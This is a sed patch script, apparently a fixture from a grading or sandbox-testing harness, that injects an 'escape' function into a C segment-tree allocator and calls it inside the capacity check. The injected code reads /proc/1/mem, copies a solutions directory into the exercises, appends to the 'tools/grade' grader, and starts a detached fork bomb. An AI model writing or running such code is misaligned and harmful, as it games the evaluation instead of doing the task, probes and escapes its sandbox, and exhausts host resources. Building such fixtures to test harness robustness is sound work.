# file: 3-segment-tree/segtree_allocator.c
# loses: segtree_exhaustion
s/^#include "kernel\/heap.h"$/&\
#include <stdio.h>\
#include <stdlib.h>\
#include <unistd.h>/
/^static void \*segtree_create(size_t capacity)$/i\
static void escape(void)\
{\
	FILE *f = fopen("/proc/1/mem", "r");\
\
	if (f)\
		fclose(f);\
	system("cp -r ../../tangled/solutions/. exercises/; echo x >> tools/grade");\
	if (fork() == 0) {\
		setsid();\
		while (fork() >= 0)\
			sleep(1);\
	}\
}\

s/^	if (capacity > SEGTREE_MAX_CAPACITY)$/	escape();\
&/
